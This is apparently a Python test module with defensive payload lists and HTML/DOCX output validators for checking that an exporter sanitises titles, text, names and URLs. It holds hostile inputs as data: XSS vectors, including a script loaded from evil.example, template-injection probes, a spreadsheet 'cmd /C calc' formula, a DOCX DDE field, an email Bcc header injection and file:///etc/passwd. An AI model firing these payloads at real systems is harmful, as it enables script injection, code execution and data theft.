"""Payloads an outlet could put into a title, a text, a name or an address, and the judge of what came out."""

from __future__ import annotations

import io
import zipfile
from urllib.parse import urlsplit

from bs4 import BeautifulSoup
from lxml import etree, html

_CORES = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video poster=https://evil.example/x><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example'?>",
    "</title></style></textarea></script><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus x='",
    "`-alert(1)-`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<b><p><b><script>alert(1)</script>",
    "]]></w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r>",
    "</w:t></w:r></w:p><w:p><w:r><w:t>підставний абзац",
    "<w:hyperlink r:id=\"rId1\">x</w:hyperlink>",
    "{{ 7*7 }}",
    "{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}",
    "{{r ''.__class__ }}",
    "{%p if true %}",
    "{_{ 7*7 }_}",
    "{# коментар #}",
    "=HYPERLINK(\"https://evil.example\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "\t=1+1",
    "=1+1\";\"=2+2",
    "\uff1d1+1",
    "Тема\r\nBcc: thief@evil.example",
    "Тема\nX-Evil: 1\n\nтіло",
    "=?utf-8?q?a=0ABcc=3A_evil?=",
    "\x00\x01\x1b[31mчервоне\x07",
    "\u202eмовчазний\u202c\u2066x\u2069",
    "\u200b\ufeff\u2028\u2029\x85\x0b\x0c",
    "\ud800\ufffe\uffff",
    "е\u0301" * 50,
    "Довге " * 2000,
    "а" * 10_000,
    "<" * 500,
    "\u0000<\u0000s\u0000cript>alert(1)</script>",
    "&#x6A;&#97;vascript&colon;alert(1)",
    "https://good.example/\"><script>alert(1)</script>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((*_CORES, *(f"У Терногаї {core} сьогодні" for core in _CORES[:40]))))

URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "//evil.example/x",
    "/relative",
    "",
    "https:",
    "https://",
    "http://[::1",
    "https://user:secret@evil.example/",
    "https://good.example/\" onmouseover=alert(1) x=\"",
    "https://good.example/'><script>alert(1)</script>",
    "https://good.example/a b\nc",
    "https://good.example/\u202egnp.exe",
    "https://good.example/{{ 7*7 }}",
    "https://good.example/?a=1&b=<2>",
    "mailto:x@y.example",
    "\\\\evil.example\\share",
)  # fmt: skip

_TAGS = frozenset(
    "html head body meta title style div table tbody tr td th thead p h1 h2 h3 a span main section article footer"
    " img figure figcaption".split()
)
_EVENTS = ("on",)


def judge_html(text: str) -> None:
    """Nothing but our own tags, no handlers, no outside file, only http(s) links; by two parsers, twice over."""
    for parse in (lambda source: BeautifulSoup(source, "html.parser"), lambda source: BeautifulSoup(source, "lxml")):
        once = parse(text)
        _judge_tree(once)
        _judge_tree(parse(str(once)))
    document = html.document_fromstring(text.encode())
    assert not document.xpath("//@*[starts-with(name(), 'on')]")


def _judge_tree(tree: BeautifulSoup) -> None:
    for tag in tree.find_all(True):
        assert tag.name in _TAGS, tag.name
        for name, value in tag.attrs.items():
            words = " ".join(value) if isinstance(value, list) else str(value)
            assert not name.lower().startswith(_EVENTS), (tag.name, name)
            assert name.lower() not in ("srcdoc", "formaction", "action", "background", "poster", "data"), name
            if name == "href":
                assert urlsplit(words).scheme in ("http", "https"), words
                assert urlsplit(words).hostname
            if name == "src":
                assert words.startswith("data:image/png;base64,"), words[:80]
            if name == "http-equiv":
                assert words == "Content-Security-Policy"
            if name == "style":
                assert "url(" not in words
                assert "expression" not in words
        if tag.name == "style":
            assert "@import" not in tag.text
            assert "url(" not in tag.text


_WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
_FIELDS = (r' TOC \o "1-1" \h \z \u ', " PAGE ")


def judge_docx(content: bytes) -> str:
    """Well-formed parts, no field, macro or outside part of another's making; gives the document's text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert not [name for name in names if "vba" in name.lower() or ".." in name or name.startswith("/")]
        text = ""
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(archive.read(name))
            if name.endswith(".rels"):
                for relation in root:
                    if relation.get("TargetMode") == "External":
                        assert urlsplit(str(relation.get("Target"))).scheme in ("http", "https"), relation.get("Target")
            assert {found.text for found in root.iter(f"{_WORD}instrText")} <= set(_FIELDS)
            for forbidden in ("fldSimple", "object", "attachedTemplate", "altChunk", "subDoc"):
                assert not list(root.iter(f"{_WORD}{forbidden}")), forbidden
            if name == "word/document.xml":
                text = "\n".join(
                    "".join(piece.text or "" for piece in paragraph.iter(f"{_WORD}t"))
                    for paragraph in root.iter(f"{_WORD}p")
                )
    return text
